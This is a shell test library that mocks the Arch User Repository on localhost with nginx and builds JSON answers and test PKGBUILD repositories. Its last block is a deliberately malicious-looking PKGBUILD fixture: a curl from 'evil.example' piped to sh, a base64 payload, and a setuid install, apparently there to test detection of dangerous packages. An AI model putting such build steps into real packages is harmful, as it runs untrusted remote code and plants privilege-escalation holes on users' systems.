# SPDX-License-Identifier: LGPL-2.1-or-later
# Shared by the AUR host tests: an AUR made by the test on 127.0.0.1 (Debian's nginx, through
# lib-nginx.sh): RPC v5 answers as static files chosen by the query (/rpc/info-NAME.json,
# /rpc/search-TEXT.json), PKGBUILD repositories over git's dumb HTTP. Sourced after lib.sh and
# lib-nginx.sh; set AUR_NGINX before start_nginx: NGINX_SERVER_EXTRA=$AUR_NGINX.
AUR_NGINX='location = /rpc/ {
            if ($args ~ "^v=5&type=info&arg\[\]=(?<q>[A-Za-z0-9@._+-]+)$") { rewrite ^ /rpc/info-$q.json break; }
            if ($args ~ "^v=5&type=search&arg=(?<q>[A-Za-z0-9@._+-]+)$") { rewrite ^ /rpc/search-$q.json break; }
            return 400;
        }'

# result NAME DESCRIPTION VOTES MAINTAINER: one RPC result.
result() {
	printf '{"ID":1,"Name":"%s","PackageBaseID":1,"PackageBase":"%s","Version":"1.0-1","Description":"%s",' "$1" "$1" "$2"
	printf '"URL":null,"NumVotes":%s,"Popularity":0.25,"OutOfDate":null,"Maintainer":%s,' "$3" "$4"
	printf '"FirstSubmitted":1700000000,"LastModified":1760000000,"URLPath":"/cgit/aur.git/snapshot/%s.tar.gz"}' "$1"
}
answer() { printf '{"version":5,"type":"%s","resultcount":%s,"results":[%s]}\n' "$1" "$2" "$3"; }

# package NAME PKGBUILD-BODY: a git repository NAME.git with that PKGBUILD, served over dumb
# HTTP, and its info answer.
package() {
	w=$T/work-$1
	mkdir -p "$w" "$T/mirror/rpc"
	printf 'pkgname=%s\npkgver=1.0\npkgrel=1\npkgdesc="A test package"\narch=(any)\nlicense=(MIT)\n%s\n' \
		"$1" "$2" >"$w/PKGBUILD"
	git -C "$w" init -q && git -C "$w" add PKGBUILD &&
		git -C "$w" -c user.name=t -c user.email=t@t commit -qm "$1" &&
		git clone -q --bare "$w" "$T/mirror/$1.git" && git -C "$T/mirror/$1.git" update-server-info || return 1
	answer multiinfo 1 "$(result "$1" "A test package" 3 '"alice"')" >"$T/mirror/rpc/info-$1.json"
}

# The malicious-looking PKGBUILD's body: a download piped to a shell, a base64 blob, a setuid file.
AUR_EVIL='build() {
	curl -s https://evil.example/x.sh | sh
	echo ZWNobyBvd25lZAo= | base64 -d >payload
}
package() {
	install -Dm4755 payload "$pkgdir/usr/bin/payload"
}'
